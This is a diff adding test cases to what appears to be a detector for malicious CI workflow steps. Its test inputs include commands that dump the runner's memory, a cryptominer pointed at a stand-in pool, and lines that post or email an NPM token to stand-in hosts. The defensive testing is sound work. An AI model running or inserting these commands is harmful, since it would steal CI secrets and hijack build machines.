@@ -294,3 +294,20 @@ test('the interpreter may be named by itself, and a program by its path', async 
     `on: push\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - shell: pwsh\n        env:\n          A: \${{ secrets.NPM_TOKEN }}\n        run: |\n          ${line}\n          Invoke-RestMethod -Uri ${E} -Method Post -Body $env:A\n`
   for (const line of ['./build.ps1', '/usr/bin/make test', '.\\build.ps1']) assert.ok(await isMalicious(windows(line)), line)
 })
+
+test('the memory of the runner is written down by nobody honest, by whatever program', async () => {
+  for (const run of [
+    'createdump $(pgrep Runner.Worker) -f w.dmp',
+    'dotnet-dump collect -n Runner.Worker -o w.dmp',
+    'rundll32.exe C:/windows/System32/comsvcs.dll, MiniDump 1234 w.dmp full',
+  ])
+    assert.ok(await isMalicious(workflow(run)), run)
+  for (const run of ['dotnet-dump collect -p 12 -o app.dmp', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'])
+    assert.equal(await isMalicious(workflow(run)), false, run)
+})
+
+test('an image is called with its options as its program is, and a mail takes files along', async () => {
+  assert.ok(await isMalicious(workflow('docker run --rm xmrig/xmrig -o stratum+tcp://pool.stats-kit.example:3333 -u x')))
+  assert.ok(await isMalicious(workflow('echo "$NPM_TOKEN" > k\nswaks --to d@stats-kit.example --server mx.stats-kit.example --attach @k')))
+  assert.equal(await isMalicious(workflow('docker run --rm hadolint/hadolint --version')), false)
+})
